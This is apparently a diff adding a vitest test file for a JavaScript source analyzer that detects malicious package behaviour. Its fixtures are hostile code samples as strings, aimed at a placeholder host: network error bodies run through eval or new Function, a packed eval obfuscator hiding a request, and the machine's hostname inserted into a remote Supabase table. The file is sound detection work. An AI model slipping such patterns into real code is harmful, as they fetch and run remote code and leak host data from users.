@@ -1,0 +1,43 @@
+import { describe, expect, test } from "vitest";
+
+import { analyzeSource } from "./analyze-source.ts";
+import type { SourceFacts } from "./source-facts.ts";
+
+function read(text: string): SourceFacts {
+  return analyzeSource({ path: "index.js", text, language: "javascript" });
+}
+
+describe("analyzeSource knows", () => {
+  test.each<readonly [string, string]>([
+    [
+      "what a request fails with, behind what follows on success",
+      "exports.f=(a,b,next)=>require('axios').get('https://a.invalid').then(()=>next()).catch((e)=>{new Function('require',e.response.data)(require)})",
+    ],
+    [
+      "what a request fails with, as the second function",
+      "require('axios').get('https://a.invalid').then(()=>{},(e)=>eval(e.response.data.token))",
+    ],
+  ])("%s", (_name, text) => {
+    const { effects } = read(text);
+
+    const run = effects.find(({ kind }) => kind === "run-code");
+    expect(run?.sources).toContain("network");
+  });
+
+  test("what stands packed in a list of words behind numbers", () => {
+    const packed = `eval(function(p,a,c,k,e,d){e=function(c){return c.toString(36)};if(!''.replace(/^/,String)){while(c--){d[e(c)]=k[c]||e(c)}k=[function(e){return d[e]}];e=function(){return'\\\\w+'};c=1};while(c--){if(k[c]){p=p.replace(new RegExp('\\\\b'+e(c)+'\\\\b','g'),k[c])}}return p}('0("1").2("3://4.5/")',36,6,'require|https|get|https|a|invalid'.split('|'),0,{}))`;
+
+    const { effects } = read(packed);
+
+    expect(effects.find(({ kind }) => kind === "network")?.argument).toBe("https://a.invalid/");
+  });
+
+  test("what is put into a table of a store", () => {
+    const { effects } = read(
+      "const s=require('@supabase/supabase-js').createClient('https://a.invalid','k');s.from('t').insert({h:require('os').hostname()})",
+    );
+
+    const sent = effects.find(({ kind }) => kind === "network");
+    expect(sent?.sources).toContain("host-facts");
+  });
+});
